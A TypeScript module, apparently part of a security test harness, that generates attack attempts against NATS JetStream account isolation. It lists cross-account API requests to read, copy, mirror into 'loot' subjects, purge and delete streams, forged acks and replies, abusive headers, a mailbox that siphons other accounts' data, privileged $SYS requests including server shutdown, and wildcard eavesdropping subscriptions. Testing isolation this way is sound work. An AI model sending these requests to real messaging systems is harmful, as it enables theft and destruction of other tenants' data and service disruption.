/** Something to publish and see what comes of it. */
export interface Attempt {
  readonly subject: string;
  readonly body: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** Where the answer should go, when not to the attacker. */
  readonly reply?: string;
}

const json = (subject: string, body: object = {}): Attempt => ({ subject, body: JSON.stringify(body) });

/** What a forged letter says; whoever receives it can tell where it was put in. */
export const forgedOn = (subject: string): string => `forged on ${subject};`;
const forged = (subject: string, headers?: Attempt['headers']): Attempt => ({ subject, body: forgedOn(subject), ...(headers && { headers }) });

/** Where another account's JetStream API might answer: one's own, by account, by domain, and through a door meant for something else. */
const apis = (victim: string): readonly string[] => ['$JS.API', `$JS.${victim}.API`, '$JS.pirtti.API', `${victim}.$JS.API`, `to.${victim}.$JS.API`, `tell.${victim}.$JS.API`];

/** The JetStream API, request by request: asking, reading, listening in, copying, changing, destroying. Destroying comes last, so that there was something to read. */
function requests(victim: string, sender: string, api: string): readonly Attempt[] {
  const stream = `INBOX_${sender}`;
  const slot = `inbox.${sender}`;
  const everything = { deliver_policy: 'all', ack_policy: 'none' };
  const elsewhere = { name: stream, external: { api: `$JS.${victim}.API`, deliver: 'loot.copied' } };
  return [
    json('INFO'), json('STREAM.LIST'), json('STREAM.NAMES', { subject: slot }),
    json(`STREAM.INFO.${stream}`, { subjects_filter: '>', deleted_details: true }),
    json(`STREAM.MSG.GET.${stream}`, { seq: 1 }),
    json(`STREAM.MSG.GET.${stream}`, { last_by_subj: slot }),
    json(`STREAM.MSG.GET.${stream}`, { next_by_subj: '>', seq: 1 }),
    json(`DIRECT.GET.${stream}`, { seq: 1 }), json(`DIRECT.GET.${stream}`, { batch: 10, seq: 1 }), json(`DIRECT.GET.${stream}.${slot}`),
    json(`CONSUMER.LIST.${stream}`), json(`CONSUMER.NAMES.${stream}`), json(`CONSUMER.INFO.${stream}.reader`), json(`CONSUMER.INFO.${stream}.thief`),
    json(`CONSUMER.CREATE.${stream}`, { stream_name: stream, config: { ...everything, deliver_subject: 'loot.push' } }),
    json(`CONSUMER.CREATE.${stream}.thief`, { stream_name: stream, config: { ...everything, name: 'thief' } }),
    json(`CONSUMER.CREATE.${stream}.thief.${slot}`, { stream_name: stream, config: { ...everything, name: 'thief', filter_subject: slot } }),
    json(`CONSUMER.DURABLE.CREATE.${stream}.keeper`, { stream_name: stream, config: { durable_name: 'keeper', deliver_policy: 'all', ack_policy: 'explicit' } }),
    json(`CONSUMER.CREATE.${stream}.reader`, { stream_name: stream, config: { durable_name: 'reader', deliver_policy: 'all', ack_policy: 'explicit', deliver_subject: 'loot.reader' } }),
    json(`CONSUMER.MSG.NEXT.${stream}.thief`, { batch: 10, no_wait: true }),
    json(`CONSUMER.MSG.NEXT.${stream}.reader`, { batch: 10, no_wait: true }),
    json('STREAM.CREATE.MIRROR', { name: 'MIRROR', mirror: elsewhere }),
    json('STREAM.CREATE.SOURCED', { name: 'SOURCED', sources: [elsewhere, { name: stream }] }),
    json('STREAM.CREATE.NET', { name: 'NET', subjects: ['>'] }),
    json(`STREAM.CREATE.${stream}`, { name: stream, subjects: [slot], max_msgs: 1 }),
    json(`STREAM.SNAPSHOT.${stream}`, { deliver_subject: 'loot.snapshot' }),
    json(`STREAM.RESTORE.${stream}`, { config: { name: stream, subjects: [slot] }, state: { messages: 0 } }),
    json(`STREAM.UPDATE.${stream}`, { name: stream, subjects: [slot], max_msgs: 1, republish: { src: '>', dest: 'loot.>' } }),
    json(`CONSUMER.PAUSE.${stream}.reader`, { pause_until: '2099-01-01T00:00:00Z' }),
    json(`CONSUMER.UNPIN.${stream}.reader`, { group: 'x' }), json(`CONSUMER.RESET.${stream}.reader`, { seq: 1 }),
    json(`CONSUMER.LEADER.STEPDOWN.${stream}.reader`), json(`STREAM.LEADER.STEPDOWN.${stream}`), json(`STREAM.PEER.REMOVE.${stream}`, { peer: 'test' }),
    json('META.LEADER.STEPDOWN'), json('SERVER.REMOVE', { peer: 'test' }),
    json(`ACCOUNT.STREAM.MOVE.${victim}.${stream}`, { server: 'elsewhere' }), json(`ACCOUNT.STREAM.CANCEL_MOVE.${victim}.${stream}`),
    json(`STREAM.MSG.DELETE.${stream}`, { seq: 1 }), json(`STREAM.PURGE.${stream}`), json(`CONSUMER.DELETE.${stream}.reader`),
    json(`STREAM.DELETE.${stream}`), json(`ACCOUNT.PURGE.${victim}`),
  ].map((attempt) => ({ ...attempt, subject: `${api}.${attempt.subject}` }));
}

/** Through the API of the victim's account, on one of its mailboxes. */
export const apiAttempts = (victim: string, sender: string): readonly Attempt[] => apis(victim).flatMap((api) => requests(victim, sender, api));

/** Letters put where they do not belong, receipts for what another has read, and headers by which the server might do more than deliver. */
export function forgeries(attacker: string, victim: string, all: readonly string[]): readonly Attempt[] {
  const acks = all.flatMap((sender) => ['reader.1.1.1.1.1', 'reader.1.2.2.1.1', 'thief.1.1.1.1.1'].map((rest) => `$JS.ACK.INBOX_${sender}.${rest}`));
  const doors = all.flatMap((one) => [
    `inbox.${one}`, `to.inbox.${one}`, `to.${victim}.${one}`, `${victim}.inbox.${one}`, `control.${one}`, `to.control.${one}`, `tell.${victim}.${one}`, `${victim}.control.${one}`,
  ]);
  const replies = [`_INBOX_${victim}.forged`, `_INBOX_${victim}.1`, `to._INBOX_${victim}.forged`, '_INBOX.forged', '_R_.forged', '_GR_.forged'];
  const headers: readonly Record<string, string>[] = [
    { 'Nats-Rollup': 'all' }, { 'Nats-Rollup': 'sub' }, { 'Nats-Msg-Id': 'mine' }, { 'Nats-TTL': '1s' }, { 'Nats-Expected-Stream': 'INBOX_x' }, { 'Nats-Stream-Source': `INBOX_${attacker} 1 > >` },
    { 'Nats-Trace-Dest': `_INBOX_${victim}.traced` }, { 'Nats-Trace-Dest': `_INBOX_${attacker}.traced` }, { 'Nats-Trace-Dest': `tell.${victim}` }, { 'Nats-Trace-Dest': `inbox.${victim}`, 'Nats-Trace-Only': 'true' },
    { traceparent: '00-11111111111111111111111111111111-2222222222222222-01' }, { 'Nats-Batch-Id': 'x', 'Nats-Batch-Sequence': '1', 'Nats-Batch-Commit': '1' },
    { 'Nats-Schedule': '@every 1s', 'Nats-Schedule-Target': `inbox.${victim}` }, { 'Nats-Subject-Transform': `inbox.${victim}` }, { 'Nats-Incr': '+1' },
  ];
  return [
    ...[...new Set([...acks, ...doors, ...replies])].map((subject) => forged(subject)),
    forged(`to.${victim}`), forged(`tell.${victim}`),
    ...[`to.${victim}`, `tell.${victim}`].flatMap((subject) => headers.map((header) => forged(subject, header))),
    ...[`to.${victim}`, `tell.${victim}`, ...all.map((one) => `$JS.API.STREAM.INFO.INBOX_${one}`)].flatMap((subject) =>
      [`_INBOX_${victim}.forged`, `inbox.${victim}`, `control.${victim}`, `to.${victim}`, `$JS.API.STREAM.DELETE.INBOX_${attacker}`].map((reply) => ({ ...forged(subject), reply }))),
    forged(`$JS.ACK.hub.hash.INBOX_${victim}.reader.1.1.1.1.1.x`), forged(`$JS.FC.INBOX_${victim}.reader.x`), forged(`$JSC.R.x`), forged(`$JS.SNAPSHOT.RESTORE.INBOX_${victim}.x`), forged(`$JS.SNAPSHOT.ACK.INBOX_${victim}.x`),
  ];
}

/** A mailbox that its owner may make, made so that it would draw in what belongs to others, and pass on what comes. */
export const greedyMailbox = (sender: string, others: readonly string[]): Attempt => json(`$JS.API.STREAM.CREATE.INBOX_${sender}`, {
  name: `INBOX_${sender}`, subjects: [`inbox.${sender}`, 'loot.>', '_INBOX.>', '_R_.>'], storage: 'file', retention: 'limits', max_bytes: 1024 * 1024, republish: { src: '>', dest: 'control.>' },
  sources: others.flatMap((other) => [`$JS.${other}.API`, `to.${other}`].map((api) => ({ name: `INBOX_${sender}`, external: { api, deliver: `loot.${other}` } }))),
});

/** The server's own business: looking, and governing. */
export function systemRequests(victim: string, serverId: string): readonly Attempt[] {
  const looks = ['VARZ', 'CONNZ', 'SUBSZ', 'ROUTEZ', 'LEAFZ', 'GATEWAYZ', 'ACCOUNTZ', 'JSZ', 'HEALTHZ', 'STATSZ', 'PROFILEZ', 'EXPVARZ', 'IPQUEUESZ', 'RAFTZ'];
  const detail = { accounts: true, streams: true, config: true, consumer: true, auth: true, subscriptions: true, subscriptions_detail: true };
  return [
    ...looks.flatMap((look) => [`$SYS.REQ.SERVER.PING.${look}`, `$SYS.REQ.SERVER.${serverId}.${look}`, `$SYS.REQ.ACCOUNT.${victim}.${look}`, `$SYS.REQ.ACCOUNT.PING.${look}`]),
    ...['INFO', 'STATZ', 'CONNS', 'LEAFS', 'JSZ', 'SUBSZ'].map((look) => `$SYS.REQ.ACCOUNT.${victim}.${look}`),
    ...['RELOAD', 'KICK', 'LDM'].map((order) => `$SYS.REQ.SERVER.${serverId}.${order}`),
    ...['UPDATE', 'LIST', 'PACK', 'DELETE'].map((claims) => `$SYS.REQ.CLAIMS.${claims}`),
    `$SYS.REQ.ACCOUNT.${victim}.CLAIMS.UPDATE`, `$SYS.REQ.ACCOUNT.${victim}.CLAIMS.LOOKUP`, '$SYS.REQ.SERVER.PING', '$SYS.REQ.USER.INFO', '$SYS.DEBUG.SUBSCRIBERS', '$SYS.REQ.ACCOUNT.NSUBS',
    `$SYS.ACCOUNT.${victim}.CONNECT`, `$SYS.ACCOUNT.${victim}.DISCONNECT`, `$SYS.ACCOUNT.${victim}.SERVER.CONNS`, `$SYS.SERVER.${serverId}.SHUTDOWN`, `$SYS._INBOX.${serverId}.x`,
  ].map((subject) => json(subject, { ...detail, cid: 5 }));
}

/** Where another's mail could pass by: each with and without a queue group, which servers check by other code. */
export const listeningPosts = (all: readonly string[]): readonly string[] => [
  '>', '*', '*.*', '*.*.*', '*.>', 'inbox.>', 'inbox.*', 'to.>', 'to.*', 'control.>', 'control.*', 'tell.>', 'loot.>', '_INBOX.>', '_INBOX.*', '_R_.>', '_GR_.>',
  '$JS.>', '$JS.API.>', '$JS.*.API.>', '$JS.ACK.>', '$JS.FC.>', '$JS.EVENT.>', '$JS.EVENT.ADVISORY.>', '$JS.EVENT.METRIC.>', '$JSC.>', '$SYS.>', '$SYS.ACCOUNT.>', '$SYS.REQ.>', '$SYS._INBOX.>', '$NRG.>', '$KV.>', '$O.>', '$MQTT.>', '$G.>',
  ...all.flatMap((one) => [
    `inbox.${one}`, `to.${one}`, `to.${one}.>`, `control.${one}`, `control.${one}.>`, `tell.${one}`, `_INBOX_${one}.>`, `_INBOX_${one}.*`, `_INBOX_${one}`,
    `$JS.ACK.INBOX_${one}.>`, `$JS.API.*.*.INBOX_${one}.>`, `$JS.SNAPSHOT.>.INBOX_${one}`.replace('.>', '.*'), `${one}.>`, `$SYS.ACCOUNT.${one}.>`,
  ]),
];
